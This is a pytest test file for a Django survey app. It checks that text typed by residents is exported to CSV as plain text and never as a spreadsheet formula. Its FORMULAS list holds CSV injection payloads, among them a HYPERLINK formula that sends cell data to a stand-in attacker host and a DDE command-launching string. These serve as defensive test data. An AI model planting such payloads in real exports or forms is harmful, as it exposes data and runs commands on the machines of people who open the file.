"""Text people typed, downloaded as CSV, never runs as a spreadsheet formula (CSV injection)."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.roles import ROLES
from core.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER, safe_cell
from surveys.views import invitations, results
from tests.engagement.factories import ResidentFactory
from tests.helpers.files import csv_rows
from tests.surveys.factories import TSM_ANSWERS_NO_REPAIR, InvitationFactory, answered_response, tsm_survey

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1+1"]


def download(client, personas, view, url):
    role = next(role.slug for role in ROLES if view.access.allows(personas[role.slug]))
    client.force_login(personas[role])
    response = client.get(url)
    assert response.status_code == 200
    return csv_rows(response)


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.match(cell), cell


def test_a_comment_that_is_a_formula_is_downloaded_as_text(client, personas):
    survey = tsm_survey()
    for formula in FORMULAS:
        answered_response(InvitationFactory(survey=survey), {**TSM_ANSWERS_NO_REPAIR, "COMMENTS": formula})
    rows = download(client, personas, results.responses_csv, f"/surveys/{survey.pk}/responses.csv")
    comments = [row[rows[0].index("COMMENTS")] for row in rows[1:]]
    assert comments == ["'" + formula for formula in FORMULAS]
    assert_no_formula(rows)


def test_a_name_that_is_a_formula_is_downloaded_as_text_in_the_send_list(client, personas):
    survey = tsm_survey()
    InvitationFactory(survey=survey, resident=ResidentFactory(first_name="=1+1", last_name="@cmd"))
    rows = download(client, personas, invitations.send_list_csv, f"/surveys/{survey.pk}/invitations/letters.csv")
    assert_no_formula(rows)
    assert any(cell.startswith("'=1+1") for row in rows for cell in row), rows


@settings(max_examples=50, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(text=st.text(st.characters(blacklist_categories=("Cs",)), max_size=30))
def test_any_text_is_safe_and_keeps_what_was_typed(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.match(cell)
    assert safe_cell("-3") == "-3" and safe_cell("+44") == "+44" and safe_cell(7) == 7
